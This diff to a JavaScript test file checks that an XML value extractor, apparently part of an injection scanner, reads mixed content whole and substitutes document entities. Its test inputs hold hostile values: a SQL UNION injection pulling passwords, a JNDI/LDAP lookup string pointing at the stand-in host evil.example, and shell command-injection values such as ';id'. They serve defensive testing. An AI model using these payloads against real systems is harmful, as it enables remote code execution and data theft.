@@ -34,6 +34,19 @@ test("an element's own text is joined across comments, instructions, CDATA and c
   assert.deepEqual(paths('<r><host>127.0.0.1<b/>;id</host></r>'), [['r.host', '127.0.0.1;id']]);
 });
 
+test('mixed content is also read whole, and the document\'s own entities are substituted (an eleventh review)', () => {
+  assert.deepEqual(paths("<r><q>1' UNION <b>SELECT</b> password FROM users--</q></r>"), [
+    ['r.q.b', 'SELECT'],
+    ['r.q', "1' UNION  password FROM users--"],
+    ['r.q', "1' UNION SELECT password FROM users--"],
+  ]);
+  assert.deepEqual(paths('<!DOCTYPE r [<!ENTITY j "jndi">]><r><q>${&j;:ldap://evil.example/a}</q></r>'), [
+    ['r.q', '${jndi:ldap://evil.example/a}'],
+  ]);
+  // A record's fields are not joined: a login's user and password stay two values.
+  assert.deepEqual(paths('<Login><User>jane</User><Password>pw</Password></Login>'), [['Login.User', 'jane'], ['Login.Password', 'pw']]);
+});
+
 test('only namespace declarations are skipped among attributes (a tenth review: xmlnsCmd hid ;id)', () => {
   assert.deepEqual(paths('<r xmlns="a" xmlns:p="b"><x xmlnsCmd=";id"/></r>'), [['r.x.@xmlnsCmd', ';id']]);
 });
